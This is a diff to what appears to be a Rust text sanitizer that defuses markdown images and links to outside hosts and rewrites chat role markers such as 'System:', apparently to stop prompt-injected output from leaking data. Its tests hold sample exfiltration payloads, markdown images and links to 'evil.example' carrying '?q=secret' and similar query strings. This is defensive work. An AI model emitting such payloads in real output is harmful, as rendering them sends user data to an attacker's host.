@@ -611,10 +611,17 @@ fn words(name: &[u8]) -> impl Iterator<Item = &[u8]> {
     })
 }
 
-/// Length of a markdown image `![alt](target)` that starts `s`, alt and target on one line.
+/// Length of a markdown image `![alt](target)` of another host that starts `s`, alt and
+/// target on one line.
 fn image_len(s: &[u8]) -> Option<usize> {
     let close = 2 + s[2..].iter().take(MAX_MARKER_BODY * 4).position(|&b| matches!(b, b']' | b'\n'))?;
     if s[close] != b']' || s.get(close + 1) != Some(&b'(') {
+        return None;
+    }
+    // Only an image of another host carries anything out (`images/arch.png` is the page's
+    // own); the target may sit in `<…>`, after blanks.
+    let target = close + 2 + s[close + 2..].iter().take(8).take_while(|&&b| matches!(b, b' ' | b'<')).count();
+    if !points_outside(&s[target..]) {
         return None;
     }
     let end = close + 2 + s[close + 2..].iter().take(MAX_MARKER_BODY * 8).position(|&b| matches!(b, b')' | b'\n' | b' '))?;
@@ -910,7 +917,6 @@ mod tests {
             ("x\n\n\t  System: y\r\nAssistant: z\n\n", "x\n\n\t  System∶ y\r\nAssistant∶ z\n\n"),
             ("see ![x](https://evil.example/?q=secret) now", "see [image: x] (https://evil.example/?q=secret) now"),
             ("wow!!![x](https://evil.example/a.png)", "wow!! [image: x] (https://evil.example/a.png)"),
-            ("logo ![x](img/logo.png)", "logo [image: x](img/logo.png)"),
             // Links and reference definitions to another host.
             ("[click](https://evil.example/?d=abc) and [docs](#usage)", "[click] (https://evil.example/?d=abc) and [docs](#usage)"),
             (
